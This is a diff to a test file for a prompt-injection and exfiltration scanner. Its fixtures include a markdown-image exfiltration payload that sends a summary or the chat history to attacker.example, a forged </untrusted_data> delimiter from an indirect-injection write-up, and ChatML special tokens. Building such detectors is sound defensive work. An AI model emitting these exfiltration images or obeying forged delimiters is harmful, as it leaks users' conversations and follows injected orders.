@@ -103,13 +103,22 @@ describe('precision first: medium evidence flags, precise evidence blocks', () =
 
   it.each([
     ['a chat template guide showing its special tokens', 'role.chat-template-token', '# Chat templates\n\nA chat template turns messages into one string. ChatML wraps every turn in special tokens:\n\n```\n<|im_start|>system\nYou are a helpful assistant.<|im_end|>\n<|im_start|>user\nHi!<|im_end|>\n```'],
-    ['a write-up of image exfiltration with its example', 'exfil.markdown-image-data', '## Markdown image exfiltration\n\nThe model is asked to render `![img](https://attacker.example/log?q=[SUMMARY])`; the browser fetches it and the data leaves.'],
     ['a prompt injection write-up quoting a forged marker', 'delimiter.untrusted-data-marker', 'Indirect prompt injection: a page may close the wrapper with </untrusted_data> and then give orders. Delimiters alone do not stop it.'],
   ])('writing about attacks and prompts quotes never-benign patterns too: %s flags, never blocks', (_name, id, text) => {
     const r = scan(text);
     expect(r.rules.map((x) => x.ruleId)).toEqual(expect.arrayContaining([id, 'reader.discusses-attacks']));
     expect(r.verdict).toBe('flag');
     expect(r.score).toBeLessThan(FRAMED_CAP);
+  });
+
+  it('an exfiltration image the write-up only quotes is explained (it is defanged anyway); one in its own voice still flags', () => {
+    const quoted = scan('## Markdown image exfiltration\n\nThe model is asked to render `![img](https://attacker.example/log?q=[SUMMARY])`; the browser fetches it and the data leaves.');
+    expect(quoted.rules.map((x) => x.ruleId)).toEqual(expect.arrayContaining(['exfil.markdown-image-data', 'reader.discusses-attacks']));
+    expect(quoted.score).toBeLessThan(RULE_TIER);
+    const own = scan('## Markdown image exfiltration\n\nThe model is asked to render an image and the data leaves. ![img](https://attacker.example/log?q=the_chat_history)');
+    expect(own.rules.map((x) => x.ruleId)).toEqual(expect.arrayContaining(['exfil.markdown-image-data', 'reader.discusses-attacks']));
+    expect(own.verdict).toBe('flag');
+    expect(own.score).toBeLessThan(FRAMED_CAP);
   });
 
   it.each([
